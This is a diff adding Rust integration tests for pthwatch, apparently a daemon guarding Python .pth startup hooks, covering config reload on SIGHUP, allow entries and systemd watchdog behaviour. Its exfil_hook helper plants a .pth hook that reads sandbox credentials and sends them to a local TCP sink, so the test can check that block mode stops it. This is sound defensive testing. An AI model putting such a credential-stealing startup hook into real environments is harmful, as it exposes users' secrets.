@@ -1,0 +1,200 @@
+//! pthwatch as a service: the configuration file and SIGHUP, allow entries, a clean stop
+//! right after READY, and systemd's watchdog. Real daemon, real kernel, real interpreters.
+use std::{
+    os::unix::net::UnixDatagram,
+    process::{Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use integration_tests::{
+    Daemon, Sandbox, TcpSink, can_run,
+    payload::{READ_CREDENTIALS, spawning_pth_line, wait_marker},
+    pthwatch_bin,
+};
+
+/// A hook child that reads the sandbox's credentials and sends them to `port`,
+/// recording the outcome in the payload marker.
+fn exfil_hook(sb: &Sandbox, port: u16) {
+    let child = format!(
+        "{READ_CREDENTIALS}
+import socket
+try:
+    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+"
+    );
+    sb.pth("svc_init.pth", &spawning_pth_line(&child));
+}
+
+fn run_hook_once(sb: &Sandbox) -> Option<String> {
+    let _ = std::fs::remove_file(sb.home.join("payload.done"));
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    wait_marker(sb, Duration::from_secs(20))
+}
+
+#[test]
+fn sighup_applies_a_valid_file_and_refuses_an_invalid_one() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("reload");
+    let sink = TcpSink::start();
+    exfil_hook(&sb, sink.port);
+    let config = sb.root.join("pthwatch.toml");
+    std::fs::write(&config, "[daemon]\nmode = \"alert\"\n").expect("write config");
+    let cfg = config.to_string_lossy().into_owned();
+    let mut daemon = Daemon::start_without_mode(&["--config", &cfg]);
+    assert_eq!(
+        run_hook_once(&sb).as_deref(),
+        Some("sent"),
+        "alert mode lets it through"
+    );
+
+    std::fs::write(&config, "[daemon]\nmode = \"block\"\n").expect("rewrite config");
+    daemon.hup();
+    std::thread::sleep(Duration::from_millis(1500));
+    assert_eq!(
+        run_hook_once(&sb).as_deref(),
+        Some("error 1"),
+        "block after reload"
+    );
+
+    // An invalid file is refused: block stays in force and the daemon keeps running.
+    std::fs::write(&config, "[daemon]\nmode = \"off\"\n").expect("break config");
+    daemon.hup();
+    std::thread::sleep(Duration::from_millis(1500));
+    assert!(daemon.alive(), "an invalid reload must not stop the daemon");
+    assert_eq!(
+        run_hook_once(&sb).as_deref(),
+        Some("error 1"),
+        "the running config stays"
+    );
+    daemon.stop();
+}
+
+#[test]
+fn an_allow_entry_silences_a_rule_for_one_hook() {
+    if !can_run() {
+        return;
+    }
+    let sb = Sandbox::new("allow");
+    // A home-grown hook the team knows: executable, unknown to pthwatch, harmless.
+    let pth = sb.pth(
+        "team_tools.pth",
+        "import os; os.environ.setdefault('TEAM', '1')\n",
+    );
+    let sha = integration_tests::sha256_file(&pth);
+    let config = sb.root.join("pthwatch.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[[allow]]\nrules = [\"unknown_startup_hook\"]\nhook_sha256 = \"{sha}\"\nreason = \"our own tooling hook\"\n"
+        ),
+    )
+    .expect("write config");
+    let cfg = config.to_string_lossy().into_owned();
+    let daemon = Daemon::start("alert", &["--config", &cfg]);
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    std::thread::sleep(Duration::from_millis(1500));
+    let alerts = daemon.stop();
+    let about_it: Vec<_> = alerts
+        .iter()
+        .filter(|a| a["startup_hook"]["sha256"] == *sha)
+        .collect();
+    assert!(
+        about_it.is_empty(),
+        "the allowed hook was reported: {about_it:#?}"
+    );
+}
+
+/// Under systemd: a stop right after READY is a clean exit, and the watchdog is pinged
+/// at half the interval systemd asked for.
+#[test]
+fn a_stop_right_after_ready_is_clean_and_the_watchdog_is_fed() {
+    if !can_run() {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("pthwatch-svc-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).expect("dir");
+    let sock_path = dir.join("notify.sock");
+    let sock = UnixDatagram::bind(&sock_path).expect("bind");
+    sock.set_read_timeout(Some(Duration::from_millis(200)))
+        .expect("timeout");
+    let mut child = Command::new(pthwatch_bin())
+        .args(["run", "--mode", "alert", "--alert-log"])
+        .arg(dir.join("alerts.jsonl"))
+        .env("NOTIFY_SOCKET", &sock_path)
+        .env("WATCHDOG_USEC", "400000")
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("spawn");
+    let start = Instant::now();
+    let mut ready = false;
+    let mut pings = 0;
+    let mut buf = [0u8; 256];
+    while start.elapsed() < Duration::from_secs(90) {
+        if let Ok(n) = sock.recv(&mut buf) {
+            let msg = String::from_utf8_lossy(&buf[..n]).into_owned();
+            if msg.lines().any(|l| l == "READY=1") {
+                ready = true;
+                // SAFETY: signalling our own child.
+                unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+            }
+            if msg.lines().any(|l| l == "WATCHDOG=1") {
+                pings += 1;
+            }
+        }
+        if let Ok(Some(status)) = child.try_wait() {
+            assert!(ready, "exited before READY: {status}");
+            assert!(status.success(), "SIGTERM right after READY: {status}");
+            break;
+        }
+    }
+    assert!(ready, "never ready");
+    let _ = child.kill();
+    let _ = child.wait();
+    // Now feed the dog for a while.
+    let mut child = Command::new(pthwatch_bin())
+        .args(["run", "--mode", "alert", "--alert-log"])
+        .arg(dir.join("alerts2.jsonl"))
+        .env("NOTIFY_SOCKET", &sock_path)
+        .env("WATCHDOG_USEC", "400000")
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("spawn");
+    let start = Instant::now();
+    let mut ready_at = None;
+    while start.elapsed() < Duration::from_secs(90) {
+        if let Ok(n) = sock.recv(&mut buf) {
+            let msg = String::from_utf8_lossy(&buf[..n]).into_owned();
+            if msg.lines().any(|l| l == "READY=1") {
+                ready_at = Some(Instant::now());
+            }
+            if ready_at.is_some() && msg.lines().any(|l| l == "WATCHDOG=1") {
+                pings += 1;
+            }
+        }
+        if ready_at.is_some_and(|t| t.elapsed() > Duration::from_secs(2)) {
+            break;
+        }
+    }
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
+    let status = child.wait().expect("wait");
+    let _ = std::fs::remove_dir_all(&dir);
+    assert!(status.success(), "{status}");
+    assert!(
+        pings >= 3,
+        "only {pings} watchdog pings in 2 s at a 400 ms interval"
+    );
+}
